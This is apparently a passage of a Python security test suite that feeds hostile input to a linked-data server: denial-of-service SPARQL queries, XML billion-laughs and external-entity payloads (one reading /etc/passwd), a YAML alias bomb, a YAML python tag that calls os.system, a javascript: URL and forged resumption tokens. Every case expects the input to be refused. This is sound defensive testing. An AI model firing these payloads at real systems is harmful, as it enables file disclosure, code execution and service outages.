    Case("unterminated-string", 'SELECT * WHERE { ?s ?p "' + "x" * 100_000, {400}),
    Case("nul-in-query", "SELECT * WHERE { ?s ?p ?o }\x00", {400}),
    Case("describe-everything", "DESCRIBE ?s WHERE { ?s ?p ?o }", {200}),
    Case("construct-everything", "CONSTRUCT WHERE { ?s ?p ?o }", {200}),
    # Near the 1 MB body limit: refused in well under a second (lod.sparql.lexer stops at the first token
    # past a limit); these cost seconds, or were quadratic, before.
    Case("deep-braces-1mb", "SELECT * WHERE " + "{" * 499_990 + "}" * 499_990, {400}),
    Case("deep-mixed-1mb", "SELECT * WHERE " + "{([" * 166_660 + "])}" * 166_660, {400}),
    Case("flat-groups-1mb", "SELECT * WHERE { " + "{}" * 499_980 + " }", {400}),
    Case("name-dots-1mb", "ASK {} " + "a." * 499_990, {400}),
    Case("values-walk", "SELECT * VALUES ( ) {}" + " ) {}" * 33_000, {400}),
    # Flat chains that Oxigraph's parser/planner recurse on, one level each: each of these crashed a
    # worker (SIGSEGV, stack overflow) and answered 500 before lod.sparql.safety.CHAINS.
    Case("union-chain-15000", "SELECT * WHERE { {?s ?p ?o}" + " UNION {?s ?p ?o}" * 15_000 + " }", {400}),
    Case("minus-chain-3000", "SELECT * WHERE { ?s ?p ?o " + "MINUS { ?s <urn:q> ?o } " * 3000 + "}", {400}),
    Case("bind-chain-3000", "SELECT * WHERE { " + "".join(f"BIND(1 AS ?b{i}) " for i in range(3000)) + "}", {400}),
    Case("or-chain-12000", "ASK { FILTER(" + "1 = 2 || " * 12_000 + "true) }", {400}),
    Case("path-seq-10000", "ASK { ?s " + "/".join(["<urn:p>"] * 10_000) + " ?o }", {400}),
    Case("collection-8000", "ASK { ?s <urn:p> (" + " 1" * 8000 + " ) }", {400}),
    Case("triples-10000", "ASK { " + "?s ?p ?o . " * 10_000 + "}", {400}),
    Case("groups-10000", "ASK { " + "{ } " * 10_000 + "}", {400}),
    Case("union-chain-900", "SELECT * WHERE { {?s ?p ?o}" + " UNION {?s ?p ?o}" * 900 + " } LIMIT 3", {200}),
]


# ----------------------------------------------------------------------------------- parsers
def _results_xml(doctype: str, value: str) -> bytes:
    return (f'<?xml version="1.0"?>\n{doctype}\n<sparql xmlns="http://www.w3.org/2005/sparql-results#">'
            f'<head><variable name="x"/></head><results><result><binding name="x"><literal>{value}</literal>'
            f"</binding></result></results></sparql>").encode()


_LOL = '<!ENTITY a "aaaaaaaaaa">' + "".join(
    f'<!ENTITY {chr(98 + i)} "' + f"&{chr(97 + i)};" * 10 + '">' for i in range(9))
XML_RESULTS = "application/sparql-results+xml"
JSON_RESULTS = "application/sparql-results+json"

# A SERVICE endpoint on the allow-list answers this (content type, body maker taking the canary URL):
# SERVICE -> 502 (unreadable; or 200 where noted), SERVICE SILENT -> 200; never an expansion, never a fetch.
SERVICE_ANSWER_CASES: list[Case] = [
    Case("xml-billion-laughs", (XML_RESULTS, lambda c: _results_xml(f"<!DOCTYPE sparql [{_LOL}]>", "&j;"))),
    Case("xml-external-entity-http", (XML_RESULTS, lambda c: _results_xml(
        f'<!DOCTYPE sparql [<!ENTITY x SYSTEM "{c}xxe">]>', "&x;"))),
    Case("xml-external-entity-file", (XML_RESULTS, lambda c: _results_xml(
        '<!DOCTYPE sparql [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;"))),
    Case("xml-parameter-entity", (XML_RESULTS, lambda c: _results_xml(
        f'<!DOCTYPE sparql [<!ENTITY % p SYSTEM "{c}dtd"> %p;]>', "x")), 200, "the DTD is ignored: read, not fetched"),
    Case("xml-external-dtd", (XML_RESULTS, lambda c: _results_xml(f'<!DOCTYPE sparql SYSTEM "{c}ext.dtd">', "x")),
         200, "the DTD is ignored: read, not fetched"),
    Case("json-deep-nesting", (JSON_RESULTS, lambda c: b'{"head":{"vars":["x"]},"results":{"bindings":'
                                                       + b"[" * 200_000 + b"]" * 200_000 + b"}}")),
    Case("json-33mb", (JSON_RESULTS, lambda c: b'{"head":{"vars":["x"]},"results":{"bindings":[' +
                       b",".join([b'{"x":{"type":"literal","value":"' + b"a" * 1000 + b'"}}'] * 34_000) + b"]}}")),
    Case("json-ld-remote-context", ("application/ld+json", lambda c: json.dumps({"@context": c + "ctx", "@id": "urn:x"}).encode())),
    Case("xml-claims-json", (JSON_RESULTS, lambda c: _results_xml(f"<!DOCTYPE sparql [{_LOL}]>", "&j;"))),
    Case("boolean-not-solutions", (JSON_RESULTS, lambda c: b'{"head":{},"boolean":true}')),
    Case("binary-garbage", ("text/tab-separated-values", lambda c: bytes(range(256)) * 100)),
]

# A remote store (lod.remote) answering a CONSTRUCT with this: a clear RemoteQueryError, never an
# expansion or a fetch. Run in a child process under a 3 GB address-space limit, so a regression is a
# failed test, not a machine out of memory.
REMOTE_ANSWER_CASES: list[Case] = [
    Case("rdfxml-billion-laughs", ("application/rdf+xml", lambda c: (
        f'<?xml version="1.0"?><!DOCTYPE rdf:RDF [{_LOL}]><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
        'xmlns:ex="http://ex/"><rdf:Description rdf:about="http://ex/s"><ex:p>&j;</ex:p></rdf:Description></rdf:RDF>'
    ).encode())),
    Case("rdfxml-external-entity", ("application/rdf+xml", lambda c: (
        f'<?xml version="1.0"?><!DOCTYPE rdf:RDF [<!ENTITY x SYSTEM "{c}xxe">]><rdf:RDF '
        'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:ex="http://ex/"><rdf:Description '
        'rdf:about="http://ex/s"><ex:p>&x;</ex:p></rdf:Description></rdf:RDF>').encode())),
    Case("jsonld-remote-context", ("application/ld+json", lambda c: json.dumps(
        {"@context": c + "ctx", "@id": "http://ex/s", "p": "v"}).encode())),
    Case("turtle-garbage", ("text/turtle", lambda c: b"@prefix : <" + b"x" * 1000 + b" .\n:a :b ")),
]

# YAML files the build reads besides record files: data/authority.yaml -> a located RecordError.
AUTHORITY_CASES: list[Case] = [
    Case("alias-bomb", "a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
         "c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]\n"
         "e: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d]\nf: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e]\n"
         "g: &g [*f, *f, *f, *f, *f, *f, *f, *f, *f]\nentities: *g\n", Err("", "")),
    Case("python-tag", "entities: !!python/object/apply:os.system ['touch /tmp/lod-pwned']\n", Err("", "not valid YAML")),
    Case("unquoted-impossible-date", "entities:\n- id: x\n  label: X Y\n  kind: person\n  birth: 1954-02-31\n",
         Ok({"birth": "1954-02-31"}), "kept as the text written (it crashed the loader)"),
    Case("not-a-mapping", "- just\n- a list\n", Err("", "expected a mapping")),
    Case("latin1", "entities:\n- id: x\n  label: Liú\n  kind: person\n".encode("latin-1"), Err("", "")),
    Case("wikidata-javascript", "entities:\n- id: x\n  label: X Y\n  kind: person\n  wikidata: 'javascript:alert(1)'\n"
         "  confidence: high\n  evidence: none\n", Err("", "")),
]


# ----------------------------------------------------------------------------------- OAI-PMH resumption tokens
# input: how to make the token from a real one (see test_hostile_oai._make); expect: the OAI error code
# (HTTP 200, schema-valid body), or "ok" where a correctly signed token may simply continue. "signed-*":
# signed with the repository's own key (as if it had leaked): odd contents still never break the XML.
TOKEN_CASES: list[Case] = [
    Case("forged-random", "forged-random", "badResumptionToken"),
    Case("forged-unsigned-json", "forged-unsigned-json", "badResumptionToken"),
    Case("tampered-payload", "tampered-payload", "badResumptionToken"),
    Case("tampered-mac", "tampered-mac", "badResumptionToken"),
    Case("truncated", "truncated", "badResumptionToken"),
    Case("extended", "extended", "badResumptionToken"),
    Case("expired", "expired", "badResumptionToken"),
    Case("other-server-secret", "other-server-secret", "badResumptionToken"),
    Case("other-verb", "other-verb", "badResumptionToken"),
    Case("other-build", "other-build", "badResumptionToken"),
    Case("other-version", "other-version", "badResumptionToken"),
    Case("signed-wrong-types", "signed-wrong-types", "badResumptionToken"),
    Case("signed-negative-cursor", "signed-negative-cursor", "badResumptionToken"),
    Case("signed-huge-size", "signed-huge-size", {"ok", "badResumptionToken"}),
    Case("signed-markup-cursor-key", "signed-markup-cursor-key", {"ok", "badResumptionToken", "noRecordsMatch"}),
    Case("signed-unknown-prefix", "signed-unknown-prefix", {"badResumptionToken", "cannotDisseminateFormat"}),
    Case("signed-markup-set", "signed-markup-set", {"ok", "badResumptionToken", "noRecordsMatch"}),
    Case("huge-10kb", "huge-10kb", "badResumptionToken"),
    Case("xml-specials", "xml-specials", "badResumptionToken"),
    Case("crlf", "crlf", "badResumptionToken"),
    Case("unicode", "unicode", "badResumptionToken"),
    Case("empty", "empty", {"badResumptionToken", "badArgument"}),
    Case("with-metadata-prefix", "with-metadata-prefix", "badArgument"),
    Case("repeated", "repeated", "badArgument"),
    Case("valid-control", "valid", "ok"),
]
